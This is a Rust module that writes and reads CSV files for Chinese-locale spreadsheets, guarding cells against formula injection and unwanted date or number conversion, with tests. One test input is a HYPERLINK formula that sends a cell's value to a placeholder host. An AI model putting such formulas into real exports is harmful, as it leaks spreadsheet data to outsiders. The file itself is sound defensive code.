// SPDX-License-Identifier: GPL-3.0-or-later

//! CSV for people: it opens right in a Chinese spreadsheet, no cell of it computes, and it reads back the same.

/// The mark by which spreadsheets recognise UTF-8.
const MARK: &str = "\u{feff}";

/// Whether a spreadsheet would compute a text that begins so, or take it for another cell.
fn computes(c: char) -> bool {
	matches!(c, '=' | '+' | '-' | '@' | '\t' | '\r' | '\n' | '＝' | '＋' | '－' | '＠')
}

/// Whether a spreadsheet would make another text of it: a date of door 3-12, 12 of 0012, 1200000 of 12E5.
fn converts(text: &str) -> bool {
	is_date(text, '-') || is_date(text, '/') || is_changed_number(text)
}

/// Years from which on spreadsheets know dates.
const FIRST_YEAR: u16 = 1900;

/// Day, month and year in any order that a spreadsheet takes, the year of two or four digits.
fn is_date(text: &str, separator: char) -> bool {
	let parts: Vec<&str> = text.split(separator).collect();
	let digits = |part: &&str| !part.is_empty() && part.len() <= 4 && part.bytes().all(|c| c.is_ascii_digit());
	if !(2..=3).contains(&parts.len()) || !parts.iter().all(digits) {
		return false;
	}
	let long = |part: &&&str| part.len() > 2;
	let year = |part: &str| part.len() == 4 && part.parse::<u16>().is_ok_and(|year| year >= FIRST_YEAR);
	match parts.iter().filter(long).count() {
		0 => true,
		1 => parts.first().is_some_and(|part| year(part)) || parts.last().is_some_and(|part| year(part)),
		_ => false,
	}
}

/// A number that would lose its zeros, its last digits, or its form.
fn is_changed_number(text: &str) -> bool {
	const EXACT_DIGITS: usize = 15;
	let digits = |part: &str| !part.is_empty() && part.bytes().all(|c| c.is_ascii_digit());
	if digits(text) {
		return text.len() > EXACT_DIGITS || (text.len() > 1 && text.starts_with('0'));
	}
	let Some((number, exponent)) = text.split_once(['e', 'E']) else { return false };
	let (whole, decimals) = number.split_once('.').unwrap_or((number, "0"));
	digits(whole) && digits(decimals) && digits(exponent.strip_prefix(['+', '-']).unwrap_or(exponent))
}

/// Whether a spreadsheet would keep the text only behind an apostrophe.
fn is_unsafe(text: &str) -> bool {
	text.starts_with(computes) || converts(text)
}

/// Puts an apostrophe before a text that a spreadsheet would change, or that looks as if it had one already.
fn guarded(text: &str) -> String {
	let looks_guarded = |rest: &str| rest.starts_with('\'') || is_unsafe(rest);
	if is_unsafe(text) || text.strip_prefix('\'').is_some_and(looks_guarded) {
		format!("'{text}")
	} else {
		text.to_owned()
	}
}

/// Undoes [`guarded`].
fn unguarded(text: &str) -> &str {
	match text.strip_prefix('\'') {
		Some(rest) if rest.starts_with('\'') || is_unsafe(rest) => rest,
		_ => text,
	}
}

/// Writes a table as CSV: in UTF-8 with a byte-order mark, lines ended by CRLF, and cells guarded that a spreadsheet
/// would change. [`read_csv`] reads it back.
pub fn write_csv<R, C>(rows: impl IntoIterator<Item = R>) -> String
where
	R: IntoIterator<Item = C>,
	C: AsRef<str>,
{
	let mut writer = csv::WriterBuilder::new()
		.flexible(true)
		.terminator(csv::Terminator::CRLF)
		.from_writer(MARK.as_bytes().to_vec());
	for row in rows {
		// Infallible: written to memory.
		let _ = writer.write_record(row.into_iter().map(|cell| guarded(cell.as_ref())));
	}
	writer.into_inner().ok().and_then(|bytes| String::from_utf8(bytes).ok()).unwrap_or_default()
}

/// Reads what [`write_csv`] wrote, or what a spreadsheet saved of it.
///
/// # Errors
///
/// The reader's error if it is no CSV.
pub fn read_csv(text: &str) -> Result<Vec<Vec<String>>, csv::Error> {
	let text = text.strip_prefix(MARK).unwrap_or(text);
	let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.as_bytes());
	let cells = |record: csv::StringRecord| record.iter().map(|cell| unguarded(cell).to_owned()).collect();
	reader.records().map(|record| record.map(cells)).collect()
}

#[cfg(test)]
mod tests {
	use super::*;
	use proptest::prelude::*;

	#[test]
	fn names_that_would_compute() {
		let formula = "=HYPERLINK(\"http://example.invalid/?\"&A1,\"click\")";
		let row = ["-1-103", formula, "@SUM(1+1)", "＝1＋1", "张三", "'", "'=1", "''", "'tis", "\t1", "\n1"];
		let text = write_csv([row]);
		assert!(text.starts_with("\u{feff}'-1-103,\"'=HYPERLINK("));
		assert!(text.ends_with("\r\n"));
		assert_eq!(read_csv(&text).unwrap(), [row]);
	}

	#[test]
	fn labels_that_would_become_dates_or_other_numbers() {
		for text in [
			"3-12",
			"1-2",
			"12/5",
			"3-32",
			"3-2001",
			"2001-3",
			"1-2-3",
			"1-2-2001",
			"2026-01-31",
			"0012",
			"12E5",
			"1.5e+3",
			"1234567890123456",
			"12345678901234567890123456789e12",
		] {
			assert_eq!(guarded(text), format!("'{text}"));
			assert_eq!(unguarded(&guarded(text)), text);
		}
		for text in [
			"3-1202", "1-1-0101", "101", "0", "98.03", "P-7", "1-10-2-3", "3-123", "3-", "12E", "E5", "1-2a", "1/2-3",
			"",
		] {
			assert_eq!(guarded(text), text);
		}
	}

	proptest! {
		#[test]
		fn labels_read_back_the_same(cell in "'{0,2}[0-9eE/.+-]{0,9}") {
			prop_assert_eq!(read_csv(&write_csv([[cell.as_str(), "x"]])).unwrap(), [[cell.as_str(), "x"]]);
		}

		#[test]
		fn reads_back_the_same(rows in proptest::collection::vec(proptest::collection::vec("['=+@,;\"\r\n\té张＝-]{0,5}", 1..5), 1..6)) {
			let text = write_csv(&rows);
			prop_assert_eq!(read_csv(&text).unwrap(), rows);
			let mut reader = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(text.trim_start_matches(MARK).as_bytes());
			for cell in reader.records().flat_map(|record| record.unwrap().iter().map(str::to_owned).collect::<Vec<_>>()) {
				prop_assert!(!cell.starts_with(computes), "{:?}", cell);
			}
		}

		#[test]
		fn any_text_reads_back_the_same(cell in any::<String>()) {
			prop_assert_eq!(read_csv(&write_csv([[&cell, "x"]])).unwrap(), [[cell, "x".to_owned()]]);
		}
	}
}
